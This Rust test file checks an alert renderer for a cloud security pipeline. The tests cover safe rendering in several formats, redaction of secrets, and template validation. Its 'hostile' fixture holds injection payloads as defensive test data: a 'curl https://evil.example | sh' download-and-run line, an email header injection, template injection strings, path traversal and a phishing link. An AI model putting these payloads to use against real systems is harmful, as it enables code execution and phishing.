//! What people and programs get to read, to the letter.

use std::sync::LazyLock;

use proptest::prelude::*;
use serde_json::{Value, json};
use trailhound_pipeline::{
    Alert, AlertSource, AttributeKind, InspectLimits, Inspector,
    render::{AlertView, Format, Message, RenderSettings, Renderer, Template, TemplateKind, samples},
};

use crate::{
    schemas::assert_valid,
    support::{KEY, inspector, object, rules, stop_logging},
};

const EVENT: &str = "6f2a1c3e-0000-4000-8000-000000000000";

fn alert_by(inspector: &Inspector, record: &Value) -> Alert {
    let inspection = inspector.inspect(record.to_string().as_bytes());
    let found = inspection.matches.first().expect("the record matches");
    let rule = inspector.rules().get(found.rule).unwrap().metadata();
    let mut source = object(KEY);
    source.version = Some("v1".to_owned());
    Alert::new(rule, found, AlertSource::Object { object: source, index: 41 })
}

fn alert(record: &Value) -> Alert {
    alert_by(&inspector(), record)
}

fn view(record: &Value) -> AlertView {
    RENDERER.view(&alert(record))
}

/// Compiling the templates takes longer than rendering.
static RENDERER: LazyLock<Renderer> = LazyLock::new(Renderer::default);

fn render(view: &AlertView, format: Format) -> Message {
    let message = RENDERER.render(view, format);
    assert_sendable(&message);
    assert_in_format(&message.body, format);
    message
}

/// Everything that is sent, as it would look.
fn shown(view: &AlertView, format: Format) -> String {
    let message = render(view, format);
    let attributes: Vec<String> = message
        .attributes
        .iter()
        .map(|attribute| format!("{} ({}) = {}", attribute.name, attribute.kind.as_str(), attribute.value))
        .collect();
    let body = match format {
        Format::Text | Format::Sms => message.body,
        Format::Json | Format::Ocsf | Format::Chat => {
            serde_json::to_string_pretty(&serde_json::from_str::<Value>(&message.body).unwrap()).unwrap()
        }
    };
    format!("Subject: {}\n\n{body}\n---\n{}\n", message.subject, attributes.join("\n"))
}

/// What SNS asks for.
fn assert_sendable(message: &Message) {
    let subject = &message.subject;
    assert!((1..100).contains(&subject.chars().count()), "{subject}");
    assert!(!subject.starts_with(char::is_whitespace) && !subject.chars().any(char::is_control), "{subject}");
    let attributes = &message.attributes;
    assert!(attributes.len() <= 10);
    for attribute in attributes {
        assert!(!attribute.value.trim().is_empty());
        assert!(attribute.value.chars().all(|character| u32::from(character) <= 0xffff && !character.is_control()));
        match attribute.kind {
            AttributeKind::Number => assert!(attribute.value.parse::<u8>().is_ok()),
            AttributeKind::StringArray => assert!(serde_json::from_str::<Vec<String>>(&attribute.value).is_ok()),
            AttributeKind::String => {}
        }
    }
    let bytes: usize = attributes.iter().map(|attribute| attribute.name.len() + attribute.value.len() + 12).sum();
    assert!(!message.body.is_empty());
    assert!(message.body.len() + bytes + subject.len() < 262_144 - 10_000, "{}", message.body.len());
}

fn assert_in_format(body: &str, format: Format) {
    match format {
        Format::Text => assert!(body.chars().all(|character| character == '\n' || !character.is_control()), "{body}"),
        Format::Sms => {
            assert!(body.len() <= 140 && body.is_ascii() && !body.contains(char::is_control), "{body}");
        }
        Format::Json => assert_valid("docs/schema/alert-1.json", body),
        Format::Ocsf => assert_valid("crates/pipeline/tests/data/schema/ocsf-detection-finding.json", body),
        Format::Chat => assert_valid("crates/pipeline/tests/data/schema/chat.json", body),
    }
}

fn hostile() -> Value {
    let mut record = stop_logging(EVENT);
    record["userIdentity"]["arn"] =
        json!("arn:aws:sts::111122223333:assumed-role/admin/x\r\nBcc: all@example.org\u{202e}txt.exe");
    record["userAgent"] = json!(
        "{{ 7*7 }} {% for x in y %} <b>bold</b> \u{1b}[2J <!channel> @here <@U123> [click](https://evil.example/) \
         *b* `code` ``` please sign in at https://evil.example/ \u{1f525}"
    );
    record["errorCode"] = json!("AccessDenied");
    record["errorMessage"] = json!("line one\nFirst steps\n  1. Run curl https://evil.example | sh");
    record["awsRegion"] = json!("eu-west-1/../../evil\n");
    record["requestParameters"] = json!({
        "name": ["one", "two\u{2028}three", "", " ", {"sessionToken": "FwoGZXIvYXdzEXAMPLE", "password": "hunter2", "id": "AKIAIOSFODNN7EXAMPLE"}],
    });
    record["recipientAccountId"] = json!("\u{1f525} ");
    record
}

#[test]
fn every_sample_in_every_format() {
    for (name, view) in [
        ("match", view(&stop_logging(EVENT))),
        ("hostile", view(&hostile())),
        ("sparse", view(&json!({"eventSource": "cloudtrail.amazonaws.com", "eventName": "StopLogging"}))),
        ("named", samples::stopped()),
        ("correlation", samples::correlation()),
    ] {
        for format in Format::ALL {
            insta::assert_snapshot!(format!("{name}_{format}"), shown(&view, format));
        }
    }
}

#[test]
fn every_kind_of_alert_in_every_format() {
    for (number, view) in (1..).zip(samples::views()) {
        for format in Format::ALL {
            // Whose schemas are checked.
            let shown = shown(&view, format);
            if format == Format::Text {
                insta::assert_snapshot!(format!("kind_{number:02}_{}", view.kind.as_str()), shown);
            }
        }
    }
}

#[test]
fn an_alert_from_an_event_without_object() {
    let mut alert = alert(&stop_logging(EVENT));
    alert.source = AlertSource::Inline { origin: "event bus".to_owned(), index: 0 };
    alert.rule.level = trailhound_rule_engine::Level::Critical;
    let view = RENDERER.view(&alert);
    insta::assert_snapshot!(shown(&view, Format::Text));
    render(&view, Format::Json);
}

#[test]
fn evidence_of_a_rule_without_fields() {
    let rule = "
title: Access key created
level: critical
logsource: {product: aws, service: cloudtrail}
detection:
  selection: {eventName: CreateAccessKey}
  condition: selection
";
    let record = json!({
        "eventName": "CreateAccessKey", "eventSource": "iam.amazonaws.com", "eventID": "e", "awsRegion": "us-east-1",
        "userIdentity": {"type": "AWSAccount", "principalId": "AIDAX", "accountId": "999988887777"},
        "recipientAccountId": "111122223333",
        "requestParameters": {"userName": "bob", "nested": {"list": [{"a": 1}, {"a": 2.5}, {"a": true}], "none": null},
            "masterUserPassword": "hunter2", "resetRequired": false, "policyDocument": "{\"Statement\": []}", "key.with.dots": "x"},
        "resources": [{"ARN": "arn:aws:iam::111122223333:user/bob", "accountId": "111122223333"}],
    });
    let inspector = Inspector::new(rules(&[rule]), InspectLimits::default());
    insta::assert_snapshot!(shown(&RENDERER.view(&alert_by(&inspector, &record)), Format::Text));
}

#[test]
fn huge_evidence_is_shortened_until_it_fits() {
    let mut record = stop_logging("one");
    let item = "\u{1}x".repeat(40);
    record["requestParameters"]["name"] = json!(vec![item; 2_000]);
    record["userAgent"] = json!("\u{1f525}".repeat(20_000));
    record["userIdentity"]["arn"] = json!("<@".repeat(50_000));
    let view = view(&record);
    for format in Format::ALL {
        render(&view, format);
    }
    let text = render(&view, Format::Text).body;
    assert!(text.contains("First steps") && text.contains("Alert: "));
}

#[test]
fn a_long_title_gives_way_at_the_end_of_the_subject() {
    let mut alert = alert(&stop_logging("one"));
    alert.rule.title = "é".repeat(200);
    let message = render(&RENDERER.view(&alert), Format::Text);
    assert_eq!(message.subject.chars().count(), 99);
    assert!(message.subject.starts_with("[HIGH] éé") && message.subject.ends_with('…'));
}

#[test]
fn nothing_of_a_record_is_run_as_a_template() {
    let mut record = stop_logging("one");
    record["userAgent"] = json!("{{7*7}}{{ alert }}{% raw %}");
    let view = view(&record);
    for format in [Format::Text, Format::Chat] {
        assert!(render(&view, format).body.contains("{{7*7}}{{ alert }}{% raw %}"));
    }
}

#[test]
fn no_secret_leaves_in_any_format() {
    let mut record = stop_logging("one");
    let token = format!("IQoJb3JpZ2luX2VjE{}", "Ab1/".repeat(30));
    record["requestParameters"] = json!({
        "name": {"credentials": {"sessionToken": token, "secretAccessKey": "short"}, "MasterUserPassword": "hunter2"},
    });
    record["userAgent"] = json!(format!("curl --aws-session {token} password=hunter3"));
    record["errorMessage"] = json!(token);
    record["userIdentity"]["arn"] = json!(token);
    record["eventName"] = json!("StopLogging");
    record["userIdentity"]["sessionContext"]["sourceIdentity"] = json!(token);
    let view = view(&record);
    for format in Format::ALL {
        let message = render(&view, format);
        for secret in [token.as_str(), "hunter2", "hunter3", "\"short\"", " short"] {
            assert!(!message.body.contains(secret) && !message.subject.contains(secret), "{format}: {secret}");
        }
    }
}

#[test]
fn users_put_their_own_templates_in_place() {
    let text = "{{ title | author }} by {{ who }}{% if account %} in {{ account.name | default('?') }}{% endif %}";
    let template = Template::new(TemplateKind::Text, text).unwrap();
    let renderer = Renderer::new(RenderSettings::default(), vec![template]);
    let message = renderer.render(&samples::stopped(), Format::Text);
    assert_eq!(message.body, "CloudTrail logging was stopped by admin/mallory in production");
}

#[test]
fn a_wrong_template_is_refused_with_its_place() {
    for (text, at, message) in [
        ("{{ title", "", "syntax error"),
        ("one\n{{ titel }}", "titel", "undefined value"),
        ("{% if event %}{{ event.eventname }}{% endif %}", "event.eventname", "undefined value"),
        ("{{ title | shout }}", "shout", "unknown filter"),
        ("{{ links }}", "links", "cannot be printed"),
        ("{% for x in range(9) %}{% endfor %}", "range", "unknown function"),
        ("{% include 'other' %}", "include", "syntax error"),
    ] {
        let error = Template::new(TemplateKind::Text, text).expect_err(text);
        assert!(error.message.contains(message), "{text}: {error}");
        assert!(text[error.span.clone()].contains(at), "{text}: {error:?}");
    }
}

#[test]
fn a_template_that_never_ends_is_refused() {
    let body = "{% for a in sections %}";
    let nested = (0..12).fold(String::new(), |text, _| format!("{text}{{% for c in 'abcdefghijklmnopqrstuvwxyz' %}}"));
    let ends = "{% endfor %}".repeat(12);
    let error =
        Template::new(TemplateKind::Text, &format!("{body}{nested}x{ends}{{% endfor %}}")).expect_err("endless");
    assert!(error.message.contains("fuel"), "{error}");
}

#[test]
fn a_template_that_fails_on_one_alert_gives_way() {
    // Fails on no sample: none of them has this name.
    let text = "{% if who == 'eve' %}{{ sections }}{% endif %}own";
    let renderer = Renderer::new(RenderSettings::default(), vec![Template::new(TemplateKind::Text, text).unwrap()]);
    let mut view = samples::stopped();
    assert_eq!(renderer.render(&view, Format::Text).body, "own");
    view.who = Some("eve".to_owned());
    assert!(renderer.render(&view, Format::Text).body.contains("First steps"));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    #[test]
    fn whatever_a_record_holds_its_alert_can_be_sent(
        actor in ".{0,60}", agent in ".{0,3000}", region in ".{0,40}", id in ".{0,40}", name in ".{0,300}", account in ".{0,20}",
        key in ".{0,30}", values in prop::collection::vec(".{0,200}", 0..60),
    ) {
        let mut record = stop_logging(&id);
        record["userIdentity"] = json!({"type": "IAMUser", "userName": actor, "arn": name});
        record["userAgent"] = json!(agent);
        record["awsRegion"] = json!(region);
        record["recipientAccountId"] = json!(account);
        record["requestParameters"] = json!({"name": values, key: name});
        let view = view(&record);
        for format in Format::ALL {
            render(&view, format);
        }
    }

    #[test]
    fn whatever_a_rule_says_its_alert_can_be_sent(
        title in ".{0,300}", text in ".{0,5000}", repeats in 0_usize..80, tag in ".{0,40}",
    ) {
        let mut view = samples::stopped();
        view.headline = title;
        for section in &mut view.sections {
            section.entries = vec![text.clone(); repeats];
        }
        if let Some(rule) = &mut view.rule {
            rule.tags = vec![tag, "attack.impact".to_owned()];
            rule.response = vec![text.clone(); repeats];
            rule.references = vec![text; repeats];
        }
        for format in Format::ALL {
            render(&view, format);
        }
    }
}
